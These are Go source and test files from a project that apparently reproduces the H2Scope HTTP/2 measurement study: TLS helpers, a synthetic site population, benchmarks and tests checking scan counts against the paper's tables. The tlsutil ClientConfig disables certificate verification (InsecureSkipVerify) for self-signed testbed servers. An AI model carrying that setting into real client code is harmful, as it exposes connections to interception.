		CipherSuites: append([]uint16(nil), chi.CipherSuites...),
		Extensions:   append([]uint16(nil), chi.Extensions...),
		PointFormats: append([]uint8(nil), chi.SupportedPoints...),
		ALPN:         append([]string(nil), chi.SupportedProtos...),
	}
	// crypto/tls synthesizes SupportedVersions from the legacy version
	// when the extension is absent; only a hello that really carried
	// extension 43 gets one here, and only then is the legacy version
	// pinned to TLS 1.2 (RFC 8446 legacy_version) rather than the max.
	hasVersionsExt := false
	for _, e := range chi.Extensions {
		if fingerprint.ExtensionID(e) == fingerprint.ExtSupportedVersions {
			hasVersionsExt = true
		}
	}
	if hasVersionsExt {
		hello.SupportedVersions = append([]uint16(nil), chi.SupportedVersions...)
	} else {
		for _, v := range chi.SupportedVersions {
			if v > hello.Version || len(chi.SupportedVersions) == 1 {
				hello.Version = v
			}
		}
	}
	for _, c := range chi.SupportedCurves {
		hello.Groups = append(hello.Groups, uint16(c))
	}
	for _, s := range chi.SignatureSchemes {
		hello.SignatureAlgorithms = append(hello.SignatureAlgorithms, uint16(s))
	}
	return hello
}

// String renders the conn's fingerprint summary for logs.
func (c *Conn) String() string {
	if h := c.ClientHello(); h != nil {
		return fmt.Sprintf("tlsutil.Conn{%s}", h)
	}
	return "tlsutil.Conn{no hello}"
}
