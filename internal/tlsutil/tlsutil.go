// Package tlsutil provides the TLS layer of Section IV-A: self-signed
// certificate generation for testbed servers, and ALPN-based protocol
// negotiation for HTTP/2-over-TLS.
//
// The paper's H2Scope negotiates with both ALPN and NPN. NPN was a
// pre-standard TLS extension (used by SPDY) that crypto/tls has removed;
// for real TLS sockets this package offers ALPN only, while the simulated
// population emulates NPN at the metadata level through core.Negotiator —
// the same information H2Scope extracts, without the legacy extension.
package tlsutil

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"time"
)

// ProtoH2 is the ALPN identifier of HTTP/2 over TLS (RFC 7540 section 3.3).
const ProtoH2 = "h2"

// ProtoHTTP11 is the ALPN identifier of HTTP/1.1.
const ProtoHTTP11 = "http/1.1"

// SelfSignedCert generates an ECDSA P-256 certificate valid for the given
// hosts, suitable for testbed TLS listeners.
func SelfSignedCert(hosts ...string) (tls.Certificate, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("tlsutil: generating key: %w", err)
	}
	serial, err := rand.Int(rand.Reader, new(big.Int).Lsh(big.NewInt(1), 128))
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("tlsutil: generating serial: %w", err)
	}
	tmpl := x509.Certificate{
		SerialNumber:          serial,
		Subject:               pkix.Name{Organization: []string{"h2scope testbed"}},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(24 * 365 * time.Hour),
		KeyUsage:              x509.KeyUsageKeyEncipherment | x509.KeyUsageDigitalSignature,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true,
	}
	for _, h := range hosts {
		if ip := net.ParseIP(h); ip != nil {
			tmpl.IPAddresses = append(tmpl.IPAddresses, ip)
		} else {
			tmpl.DNSNames = append(tmpl.DNSNames, h)
		}
	}
	der, err := x509.CreateCertificate(rand.Reader, &tmpl, &tmpl, &key.PublicKey, key)
	if err != nil {
		return tls.Certificate{}, fmt.Errorf("tlsutil: creating certificate: %w", err)
	}
	return tls.Certificate{
		Certificate: [][]byte{der},
		PrivateKey:  key,
	}, nil
}

// ServerConfig returns a TLS config for a testbed HTTP/2 server.
// supportALPN mirrors the profile knob: without it the server negotiates no
// application protocol, as pre-ALPN deployments did.
func ServerConfig(cert tls.Certificate, supportALPN bool) *tls.Config {
	cfg := &tls.Config{
		Certificates: []tls.Certificate{cert},
		MinVersion:   tls.VersionTLS12,
	}
	if supportALPN {
		cfg.NextProtos = []string{ProtoH2, ProtoHTTP11}
	}
	return cfg
}

// ClientConfig returns a TLS config for probing a testbed server. The
// testbed uses self-signed certificates, so verification is disabled — the
// probe measures protocol behavior, not PKI hygiene.
func ClientConfig(serverName string, protos ...string) *tls.Config {
	if len(protos) == 0 {
		protos = []string{ProtoH2, ProtoHTTP11}
	}
	return &tls.Config{
		ServerName:         serverName,
		InsecureSkipVerify: true,
		NextProtos:         protos,
		MinVersion:         tls.VersionTLS12,
	}
}

// NegotiateALPN runs a TLS client handshake over nc and returns the
// negotiated application protocol and the secured connection.
func NegotiateALPN(nc net.Conn, serverName string, protos ...string) (string, *tls.Conn, error) {
	tc := tls.Client(nc, ClientConfig(serverName, protos...))
	if err := tc.Handshake(); err != nil {
		return "", nil, fmt.Errorf("tlsutil: handshake: %w", err)
	}
	return tc.ConnectionState().NegotiatedProtocol, tc, nil
}
