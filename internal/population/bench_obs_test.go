package population_test

import (
	"testing"

	"h2scope/internal/metrics"
	"h2scope/internal/obs"
	"h2scope/internal/population"
)

// BenchmarkSpanOverhead runs the same measured scan with the observability
// plane off and on; the delta is the span-building tax — per-target tracing,
// causal span reconstruction, and phase-histogram feeds (target: under 5%,
// gated in CI via cmd/benchjson).
func BenchmarkSpanOverhead(b *testing.B) {
	pop := population.Generate(population.EpochJan2017, 0.002, 7)
	run := func(b *testing.B, observed bool) {
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			opts := population.ScanOptions{SampleSize: 8, Parallelism: 4, Seed: 2}
			if observed {
				opts.Observer = obs.NewMonitor(obs.MonitorConfig{Registry: metrics.NewRegistry()})
			}
			if _, err := population.Scan(pop, opts); err != nil {
				b.Fatalf("Scan: %v", err)
			}
		}
	}
	b.Run("baseline", func(b *testing.B) { run(b, false) })
	b.Run("observed", func(b *testing.B) { run(b, true) })
}
