package population_test

import (
	"math"
	"reflect"
	"testing"
	"time"

	"h2scope/internal/attack"
	"h2scope/internal/core"
	"h2scope/internal/fingerprint"
	"h2scope/internal/population"
	"h2scope/internal/server"
)

func fullPop(t *testing.T, e population.Epoch) *population.Population {
	t.Helper()
	return population.Generate(e, 1.0, 2016)
}

func TestAdoptionCountsMatchPaper(t *testing.T) {
	tests := []struct {
		epoch              population.Epoch
		npn, alpn, working int
	}{
		{population.EpochJul2016, 49_334, 47_966, 44_390},
		{population.EpochJan2017, 78_714, 70_859, 64_299},
	}
	for _, tt := range tests {
		t.Run(tt.epoch.String(), func(t *testing.T) {
			pop := fullPop(t, tt.epoch)
			npn, alpn, working := pop.AdoptionCounts()
			if npn != tt.npn || alpn != tt.alpn || working != tt.working {
				t.Errorf("adoption = %d/%d/%d, want %d/%d/%d",
					npn, alpn, working, tt.npn, tt.alpn, tt.working)
			}
			if len(pop.Sites) != tt.working {
				t.Errorf("len(Sites) = %d, want %d", len(pop.Sites), tt.working)
			}
		})
	}
}

func TestTableIVServerCounts(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	counts := map[string]int{}
	for _, nc := range pop.ServerNameCounts(1) {
		counts[nc.Name] = nc.Count
	}
	want := map[string]int{
		"LiteSpeed":           12_637,
		"nginx":               11_293,
		"GSE":                 9_928,
		"Tengine":             2_535,
		"cloudflare-nginx":    1_197,
		"IdeaWebServer/v0.80": 1_128,
	}
	for name, n := range want {
		if counts[name] != n {
			t.Errorf("%s = %d, want %d", name, counts[name], n)
		}
	}
	if kinds := pop.ServerKinds(); kinds != 223 {
		t.Errorf("ServerKinds = %d, want 223", kinds)
	}

	pop2 := fullPop(t, population.EpochJan2017)
	counts2 := map[string]int{}
	for _, nc := range pop2.ServerNameCounts(1) {
		counts2[nc.Name] = nc.Count
	}
	want2 := map[string]int{
		"nginx":           27_394,
		"LiteSpeed":       13_626,
		"GSE":             9_929,
		"Tengine/Aserver": 2_620,
		"Tengine":         674,
	}
	for name, n := range want2 {
		if counts2[name] != n {
			t.Errorf("exp2 %s = %d, want %d", name, counts2[name], n)
		}
	}
	if kinds := pop2.ServerKinds(); kinds != 345 {
		t.Errorf("exp2 ServerKinds = %d, want 345", kinds)
	}
}

func TestTableVInitialWindowDistribution(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	rows := map[string]int{}
	total := 0
	for _, r := range pop.InitialWindowTable() {
		rows[r.Label] = r.Count
		total += r.Count
	}
	want := map[string]int{
		"NULL":       1_050,
		"0":          3_072,
		"32768":      3,
		"65535":      49,
		"65536":      20_477,
		"131072":     1,
		"262144":     1,
		"1048576":    10_799,
		"16777216":   11,
		"20000000":   1,
		"2147483647": 8_926,
	}
	if !reflect.DeepEqual(rows, want) {
		t.Errorf("Table V rows = %v, want %v", rows, want)
	}
	if total != 44_390 {
		t.Errorf("Table V total = %d, want 44390", total)
	}
}

func TestTableVIAndVIIDistributions(t *testing.T) {
	pop := fullPop(t, population.EpochJan2017)
	frameRows := map[string]int{}
	for _, r := range pop.MaxFrameTable() {
		frameRows[r.Label] = r.Count
	}
	wantFrame := map[string]int{
		"NULL":     1_015,
		"16384":    25_987,
		"1048576":  81,
		"16777215": 37_216,
	}
	if !reflect.DeepEqual(frameRows, wantFrame) {
		t.Errorf("Table VI rows = %v, want %v", frameRows, wantFrame)
	}

	hlRows := map[string]int{}
	for _, r := range pop.MaxHeaderListTable() {
		hlRows[r.Label] = r.Count
	}
	wantHL := map[string]int{
		"NULL":      1_015,
		"unlimited": 52_311,
		"16384":     10_806,
		"32768":     59,
		"81920":     3,
		"131072":    25,
		"1048896":   80,
	}
	if !reflect.DeepEqual(hlRows, wantHL) {
		t.Errorf("Table VII rows = %v, want %v", hlRows, wantHL)
	}
}

func TestNullSettingsConsistentAcrossTables(t *testing.T) {
	// The NULL rows of Tables V-VII are the same sites: those whose
	// SETTINGS frame is empty.
	pop := fullPop(t, population.EpochJul2016)
	nulls := 0
	for i := range pop.Sites {
		if pop.Sites[i].OmitSettings {
			nulls++
		}
	}
	if nulls != 1_050 {
		t.Errorf("OmitSettings sites = %d, want 1050", nulls)
	}
}

func TestSectionVDCounts(t *testing.T) {
	pop := fullPop(t, population.EpochJan2017)
	oneByte, zeroLen, silent := pop.TinyWindowCounts()
	if oneByte != 44_204 || zeroLen != 8_056 || silent != 12_039 {
		t.Errorf("tiny window = %d/%d/%d, want 44204/8056/12039", oneByte, zeroLen, silent)
	}
	// Most silent sites are LiteSpeed (paper: 10,472 of 12,039).
	litespeedSilent := 0
	for i := range pop.Sites {
		if pop.Sites[i].TinyWindow == server.TinyWindowSilent && pop.Sites[i].Family == "litespeed" {
			litespeedSilent++
		}
	}
	if litespeedSilent < 9_000 {
		t.Errorf("LiteSpeed silent sites = %d, want ~10,472", litespeedSilent)
	}
	if got := pop.ZeroWindowHeadersCount(); got != 23_834 {
		t.Errorf("zero-window HEADERS = %d, want 23834", got)
	}
	zs := pop.ZeroWUStreamCounts()
	if zs.RSTStream != 26_156 {
		t.Errorf("zero WU stream RST = %d, want 26156", zs.RSTStream)
	}
	if zs.GoAway != 162 || zs.Debug != 42 {
		t.Errorf("zero WU stream GOAWAY/debug = %d/%d, want 162/42", zs.GoAway, zs.Debug)
	}
	ls := pop.LargeWUStreamCounts()
	if ls.RSTStream != 44_057 {
		t.Errorf("large WU stream RST = %d, want 44057", ls.RSTStream)
	}
	if ls.Ignore != 20_242 {
		t.Errorf("large WU stream ignore = %d, want 20242", ls.Ignore)
	}
	lc := pop.LargeWUConnCounts()
	if lc.GoAway != 62_668 {
		t.Errorf("large WU conn GOAWAY = %d, want 62668", lc.GoAway)
	}
}

func TestSectionVECounts(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	last, first, both := pop.PriorityCounts()
	if last != 1_147 || first != 46 || both != 38 {
		t.Errorf("priority = last %d / first %d / both %d, want 1147/46/38", last, first, both)
	}
	sd := pop.SelfDepCounts()
	if sd.RSTStream != 18_237 {
		t.Errorf("self-dep RST = %d, want 18237", sd.RSTStream)
	}

	pop2 := fullPop(t, population.EpochJan2017)
	last, first, both = pop2.PriorityCounts()
	if last != 2_187 || first != 117 || both != 111 {
		t.Errorf("exp2 priority = %d/%d/%d, want 2187/117/111", last, first, both)
	}
	if sd := pop2.SelfDepCounts(); sd.RSTStream != 53_379 {
		t.Errorf("exp2 self-dep RST = %d, want 53379", sd.RSTStream)
	}
}

func TestPushSites(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	push := pop.PushSites()
	if len(push) != 6 {
		t.Fatalf("push sites = %d, want 6", len(push))
	}
	pop2 := fullPop(t, population.EpochJan2017)
	if got := len(pop2.PushSites()); got != 15 {
		t.Fatalf("exp2 push sites = %d, want 15", got)
	}
	// The paper's Fig. 3 names the push sites; nghttp2.org is among them.
	found := false
	for _, d := range push {
		if d == "nghttp2.org" {
			found = true
		}
	}
	if !found {
		t.Errorf("push sites %v missing nghttp2.org", push)
	}
}

func TestHPACKRatioShapes(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	ratios := pop.HPACKRatioByFamily()
	// GSE: all below 0.3 ("all of which are less than 0.3").
	for _, r := range ratios["GSE"] {
		if r >= 0.3 {
			t.Fatalf("GSE ratio %v >= 0.3", r)
		}
	}
	// Nginx: ~93.5% exactly 1.
	ones := 0
	for _, r := range ratios["nginx"] {
		if r == 1.0 {
			ones++
		}
	}
	frac := float64(ones) / float64(len(ratios["nginx"]))
	if math.Abs(frac-0.935) > 0.02 {
		t.Errorf("nginx ratio==1 fraction = %.3f, want ~0.935", frac)
	}
	// LiteSpeed: ~80% below 0.3.
	below := 0
	for _, r := range ratios["litespeed"] {
		if r < 0.3 {
			below++
		}
	}
	lsFrac := float64(below) / float64(len(ratios["litespeed"]))
	if math.Abs(lsFrac-0.80) > 0.03 {
		t.Errorf("litespeed ratio<0.3 fraction = %.3f, want ~0.80", lsFrac)
	}
}

func TestGenerateDeterministic(t *testing.T) {
	a := population.Generate(population.EpochJul2016, 0.01, 7)
	b := population.Generate(population.EpochJul2016, 0.01, 7)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("same seed produced different populations")
	}
	c := population.Generate(population.EpochJul2016, 0.01, 8)
	if reflect.DeepEqual(a.Sites, c.Sites) {
		t.Fatal("different seeds produced identical populations")
	}
}

func TestScaledGeneration(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.1, 3)
	if got, want := len(pop.Sites), 4_439; got != want {
		t.Errorf("scaled working sites = %d, want %d", got, want)
	}
	oneByte, zeroLen, silent := pop.TinyWindowCounts()
	if got := oneByte + zeroLen + silent; got != len(pop.Sites) {
		t.Errorf("tiny window buckets sum to %d, want %d", got, len(pop.Sites))
	}
	if silent < 400 || silent > 500 {
		t.Errorf("scaled silent = %d, want ~443", silent)
	}
}

// TestScanMeasurementsMatchGroundTruth is the reproduction's core validity
// check: for a sample of materialized sites, the H2Scope *measured*
// classification must equal the generator's ground truth on every
// dimension. This is what justifies reporting generator-level tables at
// full scale.
func TestScanMeasurementsMatchGroundTruth(t *testing.T) {
	pop := population.Generate(population.EpochJan2017, 0.003, 11) // ~193 sites
	sum, err := population.Scan(pop, population.ScanOptions{
		SampleSize:  40,
		Parallelism: 8,
		Seed:        5,
	})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if sum.Scanned != 40 {
		t.Fatalf("Scanned = %d, want 40", sum.Scanned)
	}
	obsOfReaction := func(r server.Reaction) core.Observation {
		switch r {
		case server.ReactRSTStream:
			return core.ObserveRSTStream
		case server.ReactGoAway:
			return core.ObserveGoAway
		default:
			return core.ObserveIgnore
		}
	}
	for _, res := range sum.Results {
		spec, r := res.Spec, res.Report
		if r == nil || r.Settings == nil {
			t.Errorf("%s: no report", spec.Domain)
			continue
		}
		if r.Settings.ServerHeader != spec.ServerName {
			t.Errorf("%s: server header %q, want %q", spec.Domain, r.Settings.ServerHeader, spec.ServerName)
		}
		wantClass := map[server.TinyWindowBehavior]core.TinyWindowClass{
			server.TinyWindowComply:   core.TinyWindowOneByte,
			server.TinyWindowZeroData: core.TinyWindowZeroLen,
			server.TinyWindowSilent:   core.TinyWindowNothing,
		}[spec.TinyWindow]
		if r.FlowData == nil || r.FlowData.Class != wantClass {
			t.Errorf("%s: tiny window class = %v, want %v", spec.Domain, r.FlowData.Class, wantClass)
		}
		if r.ZeroWindowHeaders == nil || r.ZeroWindowHeaders.GotHeaders == spec.FlowControlHeaders {
			t.Errorf("%s: zero-window headers = %+v, spec FCH=%v", spec.Domain, r.ZeroWindowHeaders, spec.FlowControlHeaders)
		}
		if r.ZeroWU == nil || r.ZeroWU.Stream != obsOfReaction(spec.ZeroWUStream) {
			t.Errorf("%s: zero WU stream = %v, want %v", spec.Domain, r.ZeroWU.Stream, obsOfReaction(spec.ZeroWUStream))
		}
		if r.ZeroWU.Conn != obsOfReaction(spec.ZeroWUConn) {
			t.Errorf("%s: zero WU conn = %v, want %v", spec.Domain, r.ZeroWU.Conn, obsOfReaction(spec.ZeroWUConn))
		}
		if r.SelfDep == nil || r.SelfDep.Reaction != obsOfReaction(spec.SelfDep) {
			t.Errorf("%s: self-dep = %v, want %v", spec.Domain, r.SelfDep.Reaction, obsOfReaction(spec.SelfDep))
		}
		if r.Push == nil || r.Push.Supported != spec.Push {
			t.Errorf("%s: push = %v, want %v", spec.Domain, r.Push.Supported, spec.Push)
		}
		wantLast := spec.Scheduling == server.SchedPriority || spec.Scheduling == server.SchedPriorityLastOnly
		if r.Priority == nil || r.Priority.LastRuleOK != wantLast {
			t.Errorf("%s: priority last rule = %v, want %v (mode %v)",
				spec.Domain, r.Priority.LastRuleOK, wantLast, spec.Scheduling)
		}
	}
}

func TestScanHPACKRatiosTrackTargets(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.002, 13)
	sum, err := population.Scan(pop, population.ScanOptions{SampleSize: 30, Parallelism: 8, Seed: 3})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	for _, res := range sum.Results {
		if res.Report == nil || res.Report.HPACK == nil {
			continue
		}
		got := res.Report.HPACK.Ratio
		want := res.Spec.HPACKRatio
		// The ratio model is approximate; demand qualitative agreement.
		if want >= 0.97 && got < 0.97 {
			t.Errorf("%s (%s): measured ratio %.3f, target ~1", res.Spec.Domain, res.Spec.Family, got)
		}
		if want < 0.3 && got > 0.5 {
			t.Errorf("%s (%s): measured ratio %.3f, target %.3f", res.Spec.Domain, res.Spec.Family, got, want)
		}
	}
}

func TestFigure2DistributionProperties(t *testing.T) {
	pop := fullPop(t, population.EpochJul2016)
	samples := pop.MaxConcurrentSamples()
	if len(samples) != 44_390-1_050 {
		t.Fatalf("samples = %d, want working minus NULL", len(samples))
	}
	below100, at100or128 := 0, 0
	for _, v := range samples {
		if v < 100 {
			below100++
		}
		if v == 100 || v == 128 {
			at100or128++
		}
	}
	// "the majority of web sites use a value larger than or equal to 100"
	if frac := float64(below100) / float64(len(samples)); frac > 0.10 {
		t.Errorf("P(X < 100) = %.3f, want small", frac)
	}
	// "100 and 128 are popular values"
	if frac := float64(at100or128) / float64(len(samples)); frac < 0.5 {
		t.Errorf("P(X in {100,128}) = %.3f, want majority", frac)
	}
}

func TestDomainsUniqueAndRTTsPlausible(t *testing.T) {
	pop := population.Generate(population.EpochJan2017, 0.05, 17)
	seen := make(map[string]bool, len(pop.Sites))
	for i := range pop.Sites {
		s := &pop.Sites[i]
		if seen[s.Domain] {
			t.Fatalf("duplicate domain %s", s.Domain)
		}
		seen[s.Domain] = true
		if s.BaseRTT < 2*time.Millisecond || s.BaseRTT > 350*time.Millisecond {
			t.Errorf("%s: BaseRTT %v out of range", s.Domain, s.BaseRTT)
		}
		if s.ServerName == "" || s.Family == "" {
			t.Errorf("%s: missing identity", s.Domain)
		}
	}
}

func TestProfileMappingConsistency(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.01, 23)
	for i := range pop.Sites {
		s := &pop.Sites[i]
		p := s.Profile()
		if p.Name != s.ServerName || p.Family != s.Family {
			t.Fatalf("%s: identity mismatch", s.Domain)
		}
		if s.OmitSettings {
			if p.AdvertiseMaxStreams {
				t.Errorf("%s: NULL-settings site advertises max streams", s.Domain)
			}
			if len := p.MaxFrameSize; len != 16_384 {
				t.Errorf("%s: NULL-settings site frame size %d", s.Domain, len)
			}
		} else if s.InitialWindow == 0 && p.ConnWindowBoost == 0 {
			t.Errorf("%s: zero-window site without boost", s.Domain)
		}
		if s.Push {
			if !p.EnablePush {
				t.Errorf("%s: push site profile has push disabled", s.Domain)
			}
			site := s.NewSite()
			if r, ok := site.Lookup("/"); !ok || len(r.Push) == 0 {
				t.Errorf("%s: push site has no manifest", s.Domain)
			}
		}
	}
}

func TestScaledPriorityAndPushCounts(t *testing.T) {
	pop := population.Generate(population.EpochJan2017, 0.1, 29)
	last, first, both := pop.PriorityCounts()
	if last < 180 || last > 260 {
		t.Errorf("scaled last-rule count = %d, want ~219", last)
	}
	if both < 5 || both > 20 {
		t.Errorf("scaled both-rule count = %d, want ~11", both)
	}
	if first < both {
		t.Errorf("first-rule %d < both %d", first, both)
	}
	if got := len(pop.PushSites()); got < 1 || got > 3 {
		t.Errorf("scaled push sites = %d, want 1-2", got)
	}
}

func TestEpochString(t *testing.T) {
	if population.EpochJul2016.String() == population.EpochJan2017.String() {
		t.Error("epoch strings not distinct")
	}
	if s := population.Epoch(99).String(); s != "unknown epoch" {
		t.Errorf("unknown epoch = %q", s)
	}
}

func TestAgreementPerfectOnCleanScan(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.003, 31)
	sum, err := population.Scan(pop, population.ScanOptions{SampleSize: 25, Parallelism: 8, Seed: 9})
	if err != nil {
		t.Fatal(err)
	}
	agr := population.ComputeAgreement(sum)
	if agr.Sites != 25 {
		t.Fatalf("Sites = %d, want 25", agr.Sites)
	}
	if !agr.Perfect() {
		t.Errorf("agreement not perfect:\n%s", agr)
	}
	for dim, frac := range agr.Dimensions {
		if frac != 1.0 {
			t.Errorf("%s agreement = %.3f", dim, frac)
		}
	}
	if out := agr.String(); out == "" {
		t.Error("empty rendering")
	}
}

// TestScanRobustnessScoresSample exercises the census robustness column:
// with ScanOptions.Robustness, every successfully probed site also runs the
// short adversarial battery and carries a score, and the summary aggregates
// fold every scenario verdict.
func TestScanRobustnessScoresSample(t *testing.T) {
	pop := population.Generate(population.EpochJan2017, 0.002, 17)
	sum, err := population.Scan(pop, population.ScanOptions{
		SampleSize:         4,
		Parallelism:        4,
		Seed:               9,
		Robustness:         true,
		RobustnessDuration: 40 * time.Millisecond,
	})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if sum.Scanned != 4 {
		t.Fatalf("Scanned = %d, want 4", sum.Scanned)
	}
	for _, res := range sum.Results {
		if res.Report == nil {
			t.Errorf("%s: no report", res.Spec.Domain)
			continue
		}
		score := res.Robustness
		if score == nil {
			t.Errorf("%s: no robustness score despite Robustness option", res.Spec.Domain)
			continue
		}
		if score.Total != len(attack.Kinds()) {
			t.Errorf("%s: battery size %d, want %d", res.Spec.Domain, score.Total, len(attack.Kinds()))
		}
		if score.Value < 0 || score.Value > 1 {
			t.Errorf("%s: score %v outside [0,1]", res.Spec.Domain, score.Value)
		}
		if len(score.Verdicts) != score.Total {
			t.Errorf("%s: %d verdicts for %d scenarios", res.Spec.Domain, len(score.Verdicts), score.Total)
		}
	}
	if got := len(sum.RobustnessScores); got != sum.Scanned {
		t.Errorf("RobustnessScores has %d entries, want %d", got, sum.Scanned)
	}
	verdictTotal := 0
	for _, n := range sum.RobustnessVerdicts {
		verdictTotal += n
	}
	if want := sum.Scanned * len(attack.Kinds()); verdictTotal != want {
		t.Errorf("RobustnessVerdicts total %d, want %d", verdictTotal, want)
	}
}

// TestScanWithoutRobustnessLeavesScoresNil pins the default: no battery, no
// scores, empty aggregates.
func TestScanWithoutRobustnessLeavesScoresNil(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.002, 17)
	sum, err := population.Scan(pop, population.ScanOptions{SampleSize: 2, Parallelism: 2, Seed: 3})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	for _, res := range sum.Results {
		if res.Robustness != nil {
			t.Errorf("%s: unexpected robustness score without the option", res.Spec.Domain)
		}
	}
	if len(sum.RobustnessScores) != 0 || len(sum.RobustnessVerdicts) != 0 {
		t.Errorf("robustness aggregates populated without the option: %v %v",
			sum.RobustnessScores, sum.RobustnessVerdicts)
	}
}

// TestScanFingerprintSweepsSample exercises the census fingerprint column:
// with ScanOptions.Fingerprint, every successfully probed site is re-dialed
// once per builtin client profile, the testbed's /fp endpoint echoes each
// impersonated HTTP/2 fingerprint exactly, and — because the testbed serves
// every client the same bytes — no site is flagged as fingerprint-serving.
func TestScanFingerprintSweepsSample(t *testing.T) {
	pop := population.Generate(population.EpochJan2017, 0.002, 17)
	sum, err := population.Scan(pop, population.ScanOptions{
		SampleSize:  3,
		Parallelism: 3,
		Seed:        11,
		Fingerprint: true,
	})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	if sum.Scanned != 3 {
		t.Fatalf("Scanned = %d, want 3", sum.Scanned)
	}
	profiles := fingerprint.BuiltinProfiles()
	for _, res := range sum.Results {
		fp := res.Fingerprint
		if fp == nil {
			t.Errorf("%s: no fingerprint sweep despite Fingerprint option", res.Spec.Domain)
			continue
		}
		if len(fp.Clients) != len(profiles) {
			t.Errorf("%s: %d client observations, want %d", res.Spec.Domain, len(fp.Clients), len(profiles))
			continue
		}
		if !fp.EchoOK {
			t.Errorf("%s: /fp echo missing: %+v", res.Spec.Domain, fp.Clients)
		}
		if fp.Differs {
			t.Errorf("%s: flagged as serving by fingerprint; testbed is uniform: %+v",
				res.Spec.Domain, fp.Clients)
		}
		for i, obs := range fp.Clients {
			if obs.Profile != profiles[i].Name {
				t.Errorf("%s: observation %d profile %q, want %q", res.Spec.Domain, i, obs.Profile, profiles[i].Name)
			}
			if !obs.OK {
				t.Errorf("%s: %s sweep failed: %s", res.Spec.Domain, obs.Profile, obs.Error)
				continue
			}
			if obs.H2 != obs.ExpectedH2 {
				t.Errorf("%s: %s echoed %q, want %q", res.Spec.Domain, obs.Profile, obs.H2, obs.ExpectedH2)
			}
			if obs.BodyDigest == "" || obs.ServerSettings == "" {
				t.Errorf("%s: %s missing digest/settings: %+v", res.Spec.Domain, obs.Profile, obs)
			}
		}
	}
	if sum.FingerprintSites != sum.Scanned || sum.FingerprintEcho != sum.Scanned {
		t.Errorf("summary counters = %d swept / %d echoed, want %d / %d",
			sum.FingerprintSites, sum.FingerprintEcho, sum.Scanned, sum.Scanned)
	}
	if sum.FingerprintDiffers != 0 {
		t.Errorf("FingerprintDiffers = %d, want 0", sum.FingerprintDiffers)
	}
}

// TestScanWithoutFingerprintLeavesSweepNil pins the default: no re-dials,
// no census column.
func TestScanWithoutFingerprintLeavesSweepNil(t *testing.T) {
	pop := population.Generate(population.EpochJul2016, 0.002, 17)
	sum, err := population.Scan(pop, population.ScanOptions{SampleSize: 2, Parallelism: 2, Seed: 3})
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	for _, res := range sum.Results {
		if res.Fingerprint != nil {
			t.Errorf("%s: unexpected fingerprint sweep without the option", res.Spec.Domain)
		}
	}
	if sum.FingerprintSites != 0 || sum.FingerprintEcho != 0 || sum.FingerprintDiffers != 0 {
		t.Errorf("fingerprint aggregates populated without the option: %d/%d/%d",
			sum.FingerprintSites, sum.FingerprintEcho, sum.FingerprintDiffers)
	}
}
