package population

import (
	"fmt"
	"math"
	"math/rand"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/hpack"
	"h2scope/internal/server"
)

// SiteSpec is one synthesized HTTP/2 web site: everything the scans can
// observe about it, plus the ground-truth behavior knobs that produce those
// observations when the spec is materialized as a live server.
type SiteSpec struct {
	// Rank is the site's position in the synthetic top list (1-based).
	Rank int
	// Domain is the site's authority.
	Domain string

	// NPN and ALPN are the TLS negotiation mechanisms the site speaks.
	NPN, ALPN bool

	// ServerName is the "server" response header (Table IV); Family groups
	// variants for per-family figures.
	ServerName string
	Family     string

	// OmitSettings marks the NULL rows of Tables V-VII: the site sends an
	// empty SETTINGS frame.
	OmitSettings bool
	// MaxConcurrent, InitialWindow, MaxFrame and MaxHeaderList are the
	// advertised SETTINGS values (MaxHeaderList 0 = unlimited/omitted).
	MaxConcurrent uint32
	InitialWindow uint32
	MaxFrame      uint32
	MaxHeaderList uint32

	// TinyWindow is the behavior under a 1-byte client window (V-D.1).
	TinyWindow server.TinyWindowBehavior
	// FlowControlHeaders marks sites that withhold HEADERS under a zero
	// window (V-D.2).
	FlowControlHeaders bool
	// Reactions to zero and overflowing WINDOW_UPDATE frames (V-D.3/4).
	ZeroWUStream  server.Reaction
	ZeroWUConn    server.Reaction
	ZeroWUDebug   bool
	LargeWUStream server.Reaction
	LargeWUConn   server.Reaction

	// Scheduling is the DATA-ordering behavior (V-E.1).
	Scheduling server.SchedulingMode
	// SelfDep is the reaction to self-dependent PRIORITY frames (V-E.2).
	SelfDep server.Reaction

	// Push marks the handful of sites that send PUSH_PROMISE (V-F).
	Push bool

	// HPACKRatio is the site's target header-compression ratio (Figs 4-5);
	// the materialized server's encoder policy is derived from it.
	HPACKRatio float64

	// BaseRTT is the site's network round-trip time in the RTT experiments.
	BaseRTT time.Duration
}

// Profile materializes the spec's behavior as a server profile.
func (s *SiteSpec) Profile() server.Profile {
	p := server.Profile{
		Name:                    s.ServerName,
		Family:                  s.Family,
		SupportsALPN:            s.ALPN,
		SupportsNPN:             s.NPN,
		HeaderTableSize:         frame.DefaultHeaderTableSize, // "all servers use the default" (V-C)
		MaxConcurrentStreams:    s.MaxConcurrent,
		AdvertiseMaxStreams:     !s.OmitSettings,
		InitialWindowSize:       s.InitialWindow,
		MaxFrameSize:            s.MaxFrame,
